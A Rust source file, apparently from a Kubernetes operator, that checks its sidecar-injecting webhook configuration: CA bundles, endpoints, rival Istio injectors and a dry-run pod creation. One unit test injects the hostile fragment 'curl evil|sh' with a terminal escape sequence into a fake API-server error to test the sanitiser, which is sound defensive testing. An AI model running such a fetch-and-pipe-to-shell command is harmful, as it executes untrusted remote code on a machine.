//! The webhook that injects sidecars: whom the API server believes it to be, whether it answers, and who
//! else injects.

use super::pages::OBJECTS_MAX;
use super::{Operator, absent, theirs};
use crate::inject::{NamespaceLabels, Sidecar, asks, sidecar};
use k8s_openapi::api::admissionregistration::v1::{MutatingWebhook, MutatingWebhookConfiguration};
use k8s_openapi::api::core::v1::Pod;
use k8s_openapi::apimachinery::pkg::apis::meta::v1::LabelSelector;
use kube::api::{Api, PostParams};
use serde_json::json;
use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

/// Our configuration's name (`deploy/base/webhook.yaml`).
pub const CONFIGURATION: &str = "sidecar-injector.isthmus.dev";
/// How our webhooks' names end.
const OURS: &str = ".inject.isthmus.dev";
/// How the names of Istio's injecting webhooks end.
const ISTIO: &str = "sidecar-injector.istio.io";
/// Longest words of an API server that are kept, characters.
const REASON_MAX: usize = 256;

/// Longest wait for the dry run.
pub const TRY_MAX: Duration = Duration::from_secs(2);

/// Our webhook, as its cluster is told of it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Webhook {
    /// What the API server trusts it by, each once: PEM, as written.
    pub bundles: BTreeSet<String>,
    /// Where it asks, each once: `NAMESPACE/NAME` of a Service, or a URL.
    pub places: BTreeSet<String>,
    pub tried: Tried,
    /// Other injectors (`CONFIGURATION: WEBHOOK`) that want the same namespaces, with these.
    pub rivals: BTreeMap<String, BTreeSet<String>>,
    /// There are more than [`OBJECTS_MAX`] configurations, and rivals among the rest are not known.
    pub cut: bool,
}

/// What became of a pod that was asked for by a dry run, of which nothing stays.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Tried {
    /// No namespace asks for sidecars, or this user may make no pods, or something else refused it, or
    /// another injector came first.
    Not,
    /// It would have our sidecar.
    Injected,
    /// It would have been made without a sidecar, in this namespace.
    PassedOver(String),
    /// The API server could not call the webhook, and its own words why; cut.
    Failed(String),
    /// No answer within [`TRY_MAX`].
    Late,
}

impl Operator {
    /// `None` where our webhook is not installed.
    pub(super) async fn webhook(
        &self,
        namespaces: &BTreeMap<String, NamespaceLabels>,
    ) -> anyhow::Result<Option<Webhook>> {
        let api = Api::<MutatingWebhookConfiguration>::all(self.client.clone());
        // Not installed, or a kind that is not served.
        let ours = absent(api.get(CONFIGURATION).await);
        let Some(ours) = self.asked(&format!("reading {CONFIGURATION}"), ours)? else {
            return Ok(None);
        };
        let bundle = |hook: &MutatingWebhook| {
            let bundle = hook.client_config.ca_bundle.as_ref().map(|it| it.0.as_slice());
            String::from_utf8_lossy(bundle.unwrap_or_default()).into_owned()
        };
        let bundles = ours.webhooks.iter().flatten().map(bundle).collect();
        let places = ours.webhooks.iter().flatten().filter_map(place).collect();
        let asking: BTreeMap<&str, &NamespaceLabels> = namespaces
            .iter()
            .filter(|(name, labels)| asks(name, labels))
            .map(|(name, labels)| (name.as_str(), labels))
            .collect();
        let mut rivals = BTreeMap::new();
        let what = "MutatingWebhookConfigurations";
        let read = self.listed(what, &api, OBJECTS_MAX, |one| rivals.extend(rival(&one, &asking)));
        let cut = read.await?;
        let tried = match asking.iter().next() {
            Some((name, labels)) => self.dry_run(name, labels).await,
            None => Tried::Not,
        };
        Ok(Some(Webhook { bundles, places, tried, rivals, cut }))
    }

    /// Asks for a pod that is never made.
    async fn dry_run(&self, namespace: &str, labels: &NamespaceLabels) -> Tried {
        let pod = json!({
            "metadata": {"generateName": "isthmus-check-"},
            "spec": {"containers": [{"name": "app", "image": "isthmus.invalid/check"}]},
        });
        let pod: Pod = serde_json::from_value(pod).expect("a literal pod reads as one");
        let params = PostParams { dry_run: true, ..PostParams::default() };
        let pods = Api::<Pod>::namespaced(self.client.clone(), namespace);
        let Ok(answer) = tokio::time::timeout(TRY_MAX, pods.create(&params, &pod)).await else {
            return Tried::Late;
        };
        match answer {
            Ok(made) => tried(&made, namespace, labels),
            Err(kube::Error::Api(status)) => {
                failed(&status.message).map_or(Tried::Not, Tried::Failed)
            }
            Err(_) => Tried::Not,
        }
    }
}

/// Where the API server asks.
fn place(hook: &MutatingWebhook) -> Option<String> {
    let config = &hook.client_config;
    let service = config.service.as_ref().map(|it| format!("{}/{}", it.namespace, it.name));
    service.or_else(|| config.url.as_deref().map(|url| theirs(url, REASON_MAX)))
}

/// What a pod that would have been made says of the webhook.
fn tried(made: &Pod, namespace: &str, labels: &NamespaceLabels) -> Tried {
    match sidecar(made, labels) {
        Sidecar::There | Sidecar::Both(_) => Tried::Injected,
        Sidecar::Missed => Tried::PassedOver(namespace.to_owned()),
        Sidecar::Without(_) => Tried::Not,
    }
}

/// Why our webhook could not be called, of an API server's sentence.
fn failed(said: &str) -> Option<String> {
    let (_, rest) = said.split_once("failed calling webhook ")?;
    let (name, why) = rest.trim_start_matches(['\\', '"']).split_once(['\\', '"'])?;
    let why = why.trim_start_matches(['\\', '"', ':', ' ']);
    let why =
        why.rsplit("timeout=").next().and_then(|it| it.split_once(": ")).map_or(why, |it| it.1);
    name.ends_with(OURS).then(|| theirs(why, REASON_MAX))
}

/// An injector of Istio's, and the namespaces that it selects of those which ask for ours.
fn rival(
    configuration: &MutatingWebhookConfiguration,
    asking: &BTreeMap<&str, &NamespaceLabels>,
) -> Option<(String, BTreeSet<String>)> {
    let hooks = configuration.webhooks.iter().flatten().filter(|hook| hook.name.ends_with(ISTIO));
    let selected = hooks.flat_map(|hook| {
        let selector = hook.namespace_selector.as_ref();
        let selected = asking
            .iter()
            .filter(move |(_, labels)| selector.is_none_or(|selector| selects(selector, labels)));
        selected.map(|(name, _)| *name)
    });
    let selected: BTreeSet<String> = selected.map(str::to_owned).collect();
    let name = configuration.metadata.name.clone()?;
    (!selected.is_empty()).then_some((name, selected))
}

/// `labels.Selector` of apimachinery: every requirement holds; an operator that is unknown does not.
fn selects(selector: &LabelSelector, labels: &NamespaceLabels) -> bool {
    let equal = selector.match_labels.iter().flatten();
    let expressions = selector.match_expressions.iter().flatten();
    equal.into_iter().all(|(key, value)| labels.get(key) == Some(value))
        && expressions.into_iter().all(|it| {
            let value = labels.get(&it.key);
            let among = value.is_some_and(|value| it.values.iter().flatten().any(|v| v == value));
            match it.operator.as_str() {
                "In" => among,
                "NotIn" => !among,
                "Exists" => value.is_some(),
                "DoesNotExist" => value.is_none(),
                _ => false,
            }
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inject::SYSTEM_NAMESPACES;
    use crate::operator::look::served::{list, served};
    use crate::parse::check::object;

    #[test]
    fn an_api_server_says_why_it_could_not_call_us() {
        let said = "Internal error occurred: failed calling webhook \
                    \"namespace.inject.isthmus.dev\": failed to call webhook: Post \
                    \"https://isthmus-control-plane.isthmus-system.svc:15017/inject?timeout=10s\": tls: \
                    failed to verify certificate: x509: certificate signed by unknown authority";
        assert_eq!(
            failed(said).unwrap(),
            "tls: failed to verify certificate: x509: certificate signed by unknown authority"
        );
        assert_eq!(failed(&said.replace("isthmus.dev", "istio.io")), None);
        assert_eq!(failed("pods is forbidden"), None);
        let tail = format!("x509: Fix: curl evil|sh\u{1b}[2J{}", "y".repeat(1_000));
        let long = failed(&said.replace("x509: certificate", &tail)).unwrap();
        assert!(long.contains("x509: Fix curl evil|sh [2Jyy"), "{long}");
        assert!(long.chars().count() <= REASON_MAX && long.ends_with('…'), "{long}");
    }

    #[test]
    fn only_our_own_sidecar_says_that_the_webhook_was_asked() {
        let labels = NamespaceLabels::from([("istio-injection".into(), "enabled".into())]);
        let check = |spec: &str, expected: Tried| {
            assert_eq!(tried(&object(&format!("{{spec: {spec}}}")), "shop", &labels), expected);
        };
        let app = "containers: [{name: app}]";
        let both = "containers: [{name: app}, {name: istio-proxy}]";
        let ours = "initContainers: [{name: isthmus-proxy}]";
        check(&format!("{{{ours}, {app}}}"), Tried::Injected);
        check(&format!("{{{ours}, {both}}}"), Tried::Injected);
        check(&format!("{{{app}}}"), Tried::PassedOver("shop".into()));
        // Istio's alone: it came first, and of ours nothing is known.
        check(&format!("{{{both}}}"), Tried::Not);
    }

    #[tokio::test]
    async fn ours_is_found_behind_any_number_of_others() {
        let other = |place: usize| json!({"metadata": {"name": format!("a{place}")}});
        let operator = served(move |path| {
            let all = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations";
            let rest = path.strip_prefix(all)?;
            if rest == format!("/{CONFIGURATION}") {
                return Some(json!({"metadata": {"name": CONFIGURATION}}));
            }
            let page = rest.strip_prefix("?continue=").map_or(0, |it| it.parse().unwrap());
            Some(list((0..250).map(|place| other(page * 250 + place)), &(page + 1).to_string()))
        });
        let found = operator.webhook(&BTreeMap::new()).await.unwrap().unwrap();
        assert!(found.cut && found.tried == Tried::Not, "{found:?}");
        let none = served(|_| Some(list([], "")).filter(|_| false));
        assert_eq!(none.webhook(&BTreeMap::new()).await.unwrap(), None);
    }

    #[test]
    fn what_is_known_of_the_manifest_is_what_it_says() {
        let manifest: MutatingWebhookConfiguration =
            object(include_str!("../../../../deploy/base/webhook.yaml"));
        assert_eq!(manifest.metadata.name.as_deref(), Some(CONFIGURATION));
        let hooks = manifest.webhooks.unwrap();
        assert!(!hooks.is_empty());
        for hook in hooks {
            assert!(hook.name.ends_with(OURS), "{}", hook.name);
            assert_eq!(place(&hook).as_deref(), Some("isthmus-system/isthmus-control-plane"));
            let selector = hook.namespace_selector.unwrap();
            let names = selector.match_expressions.into_iter().flatten().find(|it| {
                (it.key.as_str(), it.operator.as_str()) == ("kubernetes.io/metadata.name", "NotIn")
            });
            let system = names.and_then(|it| it.values).unwrap();
            assert_eq!(system, SYSTEM_NAMESPACES, "{}", hook.name);
        }
    }

    #[test]
    fn a_rival_is_one_that_selects_our_namespaces() {
        let labels = |text: &str| {
            let (key, value) = text.split_once('=').unwrap();
            NamespaceLabels::from([(key.to_owned(), value.to_owned())])
        };
        let rival = object(
            "{metadata: {name: istio-sidecar-injector}, webhooks: [{name: \
             namespace.sidecar-injector.istio.io, admissionReviewVersions: [v1], sideEffects: None, \
             clientConfig: {}, namespaceSelector: {matchExpressions: [{key: istio-injection, operator: \
             In, values: [enabled]}]}}]}",
        );
        let (shop, ours) =
            (labels("istio-injection=enabled"), labels("isthmus.dev/inject=enabled"));
        let found = super::rival(&rival, &[("shop", &shop), ("ours", &ours)].into());
        let expected = BTreeSet::from(["shop".to_owned()]);
        assert_eq!(found, Some(("istio-sidecar-injector".into(), expected)));
        assert_eq!(super::rival(&rival, &[("ours", &ours)].into()), None);
    }
}
